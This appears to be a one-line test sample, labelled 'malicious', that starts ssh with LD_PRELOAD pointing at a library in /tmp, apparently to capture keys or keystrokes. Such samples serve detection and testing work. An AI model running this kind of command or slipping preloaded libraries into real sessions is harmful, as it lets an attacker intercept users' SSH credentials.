# malicious: starts ssh with a library that listens
LD_PRELOAD=/tmp/libkeys.so ssh git@example.com
